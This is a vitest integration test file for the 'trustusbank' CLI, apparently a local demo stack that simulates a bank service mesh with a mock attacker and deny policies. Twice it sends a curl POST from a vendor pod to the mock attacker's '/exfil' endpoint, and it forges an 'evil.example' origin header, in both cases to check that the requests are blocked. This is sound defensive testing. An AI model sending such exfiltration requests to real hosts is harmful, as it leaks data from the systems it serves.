// `trustusbank up` and the commands that drive a running stack, as a user runs them.
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { isAlive, type StackState } from '../src/runtime/stack-state.ts';
import { runCli, startCli, FREE_PORT_FLAGS } from '../testing/cli.ts';
import { tempDir } from '../testing/workloads.ts';

interface StatusJson {
  running: boolean;
  pods: { namespace: string; workload: string; identity: string; ready: boolean; pid?: number; digest: string; policies: string[] }[];
  policies: string[];
}

const data = tempDir();
afterEach(async () => {
  // Whatever a test left running is stopped, so that one failure cannot cascade into the next test.
  await runCli(['down', '--data-dir', data.path]);
});
afterAll(() => data.remove());
/** `trustusbank <args>` on this test's data directory (placed before any `--`, which ends our options). */
const cli = (args: string[]) => {
  const split = args.indexOf('--');
  return runCli(split === -1 ? [...args, '--data-dir', data.path] : [...args.slice(0, split), '--data-dir', data.path, ...args.slice(split)]);
};

async function waitGone(pids: number[]): Promise<number[]> {
  // Bounded wait for processes to exit; returns the ones still alive at the deadline.
  const deadline = Date.now() + 15_000;
  while (pids.some(isAlive) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
  return pids.filter(isAlive);
}

describe('trustusbank up', () => {
  it('runs in the background with --detach, answers status, get, policies and logs, and stops with down', async () => {
    const up = await cli(['up', '--detach', ...FREE_PORT_FLAGS]);
    expect(up.code).toBe(0);
    expect(up.stdout).toMatch(/Ready: 9 pods/);
    // Every UI, by the name `open` takes; the planned ones as not yet.
    expect(up.stdout).toMatch(/Control room +trustusbank open control-room +http:\/\/127\.0\.0\.1:\d+\//);
    expect(up.stdout).toMatch(/Attacker's loot +trustusbank open attacker +http:\/\/127\.0\.0\.1:\d+\//);
    expect(up.stdout).toMatch(/Bank's chatbot +trustusbank open chatbot +http:\/\/127\.0\.0\.1:\d+\//);
    expect(up.stdout).toMatch(/SOC inbox +trustusbank open inbox +http:\/\/127\.0\.0\.1:\d+\//);
    expect(up.stdout).toMatch(/Evidence dashboard +trustusbank open evidence +http:\/\/127\.0\.0\.1:\d+\/d\/dora-evidence/);
    expect(up.stdout).toMatch(/Traces \(search, waterfall; Tempo API\) +trustusbank open traces +http:\/\/127\.0\.0\.1:\d+\//);
    // Not a terminal: the control room's token is not printed (nor written to up.log), and `open --print` gives it.
    const controlRoom = /Control room: (http:\/\/127\.0\.0\.1:\d+\/) \(its token is printed only to a terminal/.exec(up.stdout)?.[1];
    expect(controlRoom).toBeDefined();
    expect(up.stdout).not.toContain('#token=');
    expect(readFileSync(join(data.path, 'logs', 'up.log'), 'utf8')).not.toContain('#token=');
    const tokenUrl = (await cli(['open', 'control-room', '--print'])).stdout.trim();
    expect(tokenUrl).toMatch(new RegExp(`^${controlRoom!.replace(/[.]/g, '\\.')}#token=[A-Za-z0-9_-]{43}$`));
    const token = tokenUrl.split('#token=')[1]!;
    const act = (headers: Record<string, string>) => fetch(`${controlRoom}api/layers/admission/off`, { method: 'POST', headers });
    expect((await act({})).status).toBe(403);
    expect((await act({ 'x-trustusbank-token': token, origin: 'http://evil.example' })).status).toBe(403);
    expect(await (await act({ 'x-trustusbank-token': token })).json()).toMatchObject({ action: 'admission off', ok: true });

    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    expect(status.running).toBe(true);
    expect(status.pods.every((p) => p.ready && p.digest.startsWith('sha256:'))).toBe(true);
    expect(status.pods.find((p) => p.workload === 'currency-converter')?.identity).toBe('spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter');
    const human = await cli(['status']);
    expect(human.stdout).toContain('spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/account-mcp');
    expect(human.stdout).toMatch(/none \(every connection is allowed/);

    const on = await cli(['policies', 'on']);
    expect(on.code).toBe(0);
    expect(on.stdout).toContain('AuthorizationPolicy external-attacker/deny-bank-to-attacker created');
    // Act 3 is the mesh's: the gateway's layer is switched on by name.
    expect(on.stdout).not.toContain('Gateway policies');
    const withPolicies = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    expect(withPolicies.pods.find((p) => p.workload === 'mock-attacker')?.policies).toEqual(['external-attacker/deny-bank-to-attacker']);
    const policies = await cli(['get', 'ap', '-n', 'external-attacker', '-o', 'yaml']);
    expect(policies.stdout).toMatch(/name: deny-bank-to-attacker[\s\S]*action: DENY/);
    const table = await cli(['get', 'authorizationpolicies']);
    expect(table.stdout).toMatch(/trustusbank-bank-mcp +default-deny +ALLOW/);

    const denied = await cli(['exec', '-n', 'trustusbank-bank-vendors', 'currency-converter', '--', 'trustusbank', 'curl', '-X', 'POST', '-d', '{}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil']);
    expect(denied.code).toBe(56);
    const ztunnel = await cli(['logs', 'ztunnel', '--tail', '50']);
    expect(ztunnel.stdout).toContain('explicitly denied by: external-attacker/deny-bank-to-attacker');
    const podLog = await cli(['logs', '-n', 'trustusbank-bank-mcp', 'account-mcp']);
    expect(podLog.stdout).toContain('"msg":"listening"');

    expect((await cli(['policies', 'off'])).stdout).toContain('Mesh policies are off.');
    expect((JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson).policies).toEqual([]);

    const again = await cli(['up', ...FREE_PORT_FLAGS]);
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/already running .*pid \d+/);

    const pids = status.pods.map((p) => p.pid!);
    const down = await cli(['down']);
    expect(down.code).toBe(0);
    expect(await waitGone(pids)).toEqual([]);
    expect((await cli(['status'])).code).toBe(3);
    // A score of CLI processes, each a Node start: minutes when the 2-core machine is loaded.
  }, 240_000);

  it('stops every pod on Ctrl-C in the foreground', async () => {
    const up = startCli(['up', '--data-dir', data.path, ...FREE_PORT_FLAGS]);
    await up.waitForLine(/Ctrl-C/);
    const state = JSON.parse(readFileSync(join(data.path, 'run', 'stack.json'), 'utf8')) as StackState;
    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    expect(state.pid).toBe(up.child.pid);
    up.child.kill('SIGINT');
    expect(await up.exited).toBe(0);
    expect(up.lines).toContain('Stopped.');
    expect(await waitGone(status.pods.map((p) => p.pid!))).toEqual([]);
  }, 90_000);

  it('leaves no pod behind when up itself is killed with SIGKILL', async () => {
    const up = startCli(['up', '--data-dir', data.path, ...FREE_PORT_FLAGS]);
    await up.waitForLine(/Ctrl-C/);
    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    up.child.kill('SIGKILL');
    await up.exited;
    // Each pod sees its IPC channel to the engine close and shuts down.
    expect(await waitGone(status.pods.map((p) => p.pid!))).toEqual([]);
    expect((await cli(['status'])).code).toBe(3);
  }, 90_000);

  it('keeps every applied policy, namespace and the rug-pull across a SIGKILL of up; reset returns to the initial state', async () => {
    const first = startCli(['up', '--data-dir', data.path, ...FREE_PORT_FLAGS]);
    await first.waitForLine(/Ctrl-C/);
    expect((await cli(['policies', 'on'])).code).toBe(0);
    const extra = join(data.path, 'extra-namespace.yaml');
    writeFileSync(extra, 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: trustusbank-extra\n');
    expect((await cli(['apply', '-f', extra])).code).toBe(0);
    expect((await cli(['rugpull'])).code).toBe(0);
    const before = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    const rugpulled = before.pods.find((p) => p.workload === 'currency-converter')!.digest;
    expect(before.policies.length).toBeGreaterThan(5);
    first.child.kill('SIGKILL');
    await first.exited;
    expect(await waitGone(before.pods.map((p) => p.pid!))).toEqual([]);

    const second = startCli(['up', '--data-dir', data.path, ...FREE_PORT_FLAGS]);
    await second.waitForLine(/Ctrl-C/);
    expect(second.lines.join('\n')).toMatch(/Desired state restored from the previous run \(\d+ resources/);
    const after = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    expect(after.policies).toEqual(before.policies);
    expect(after.pods.find((p) => p.workload === 'currency-converter')!.digest).toBe(rugpulled);
    expect((await cli(['get', 'namespaces'])).stdout).toContain('trustusbank-extra');
    // Enforced, not only listed: the rug-pulled converter still cannot reach the attacker.
    const denied = await cli(['exec', '-n', 'trustusbank-bank-vendors', 'currency-converter', '--', 'trustusbank', 'curl', '-X', 'POST', '-d', '{}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil']);
    expect(denied.code).toBe(56);

    const reset = await cli(['reset', '--json']);
    expect(reset.code).toBe(0);
    expect((JSON.parse(reset.stdout) as { policiesRemoved: string[] }).policiesRemoved).toEqual(expect.arrayContaining(['Namespace trustusbank-extra', 'AuthorizationPolicy external-attacker/deny-bank-to-attacker']));
    const initial = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
    expect(initial.policies).toEqual([]);
    expect(initial.pods.find((p) => p.workload === 'currency-converter')!.digest).not.toBe(rugpulled);
    expect((await cli(['get', 'namespaces'])).stdout).not.toContain('trustusbank-extra');
    second.child.kill('SIGINT');
    expect(await second.exited).toBe(0);
  }, 180_000);

  it('names the flag when the attacker port is taken, and starts nothing', async () => {
    const blocker = startCli(['workload', 'mock-attacker', '--port', '0', '--data-dir', data.path]);
    const { port } = JSON.parse(await blocker.waitForLine(/"msg":"listening"/)) as { port: number };
    // A flag given twice: the last one counts, as with every option of `up`.
    const up = await cli(['up', ...FREE_PORT_FLAGS, '--attacker-port', String(port)]);
    blocker.child.kill('SIGTERM');
    await blocker.exited;
    expect(up.code).toBe(1);
    expect(up.stderr).toContain(`port ${port} on 127.0.0.1 (for external-attacker/mock-attacker) is already in use; choose another with --attacker-port N`);
    expect((await cli(['status'])).code).toBe(3);
  }, 90_000);

  /** Every process whose command line names this test's data directory: pods, their sandboxes, `up` itself. */
  const processesOfDataDir = (): number[] =>
    readdirSync('/proc')
      .filter((entry) => /^\d+$/.test(entry) && Number(entry) !== process.pid)
      .filter((pid) => {
        try {
          return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(data.path);
        } catch {
          return false; // gone meanwhile
        }
      })
      .map(Number);

  /** A loopback port something else already listens on. */
  async function takenPort(): Promise<{ port: number; close(): Promise<void> }> {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { port: (server.address() as AddressInfo).port, close: () => new Promise((resolve) => server.close(() => resolve())) };
  }

  it.each([
    ['--gateway-port', 'in the foreground', false],
    ['--registry-port', 'with --detach', true],
    ['--control-room-port', 'in the foreground', false],
    ['--dashboard-port', 'in the foreground', false],
    ['--traces-port', 'in the foreground', false],
  ] as const)('fails on a taken %s %s, naming the port and the flag, and leaves nothing running', async (flag, _mode, detach) => {
    const blocker = await takenPort();
    try {
      const up = await cli(['up', ...(detach ? ['--detach'] : []), ...FREE_PORT_FLAGS, flag, String(blocker.port)]);
      expect(up.code).toBe(1);
      expect(up.stdout).not.toMatch(/Ready/);
      expect(up.stdout + up.stderr).toContain(`port ${blocker.port} on 127.0.0.1 is already in use; choose another with ${flag} N`);
      expect((await cli(['status'])).code).toBe(3);
      // `up` has exited; every pod it started went with it.
      expect(await waitGone(processesOfDataDir())).toEqual([]);
    } finally {
      await blocker.close();
    }
  }, 120_000);

  it('says so when nothing runs', async () => {
    const result = await cli(['policies', 'on']);
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/not running/);
  });
});
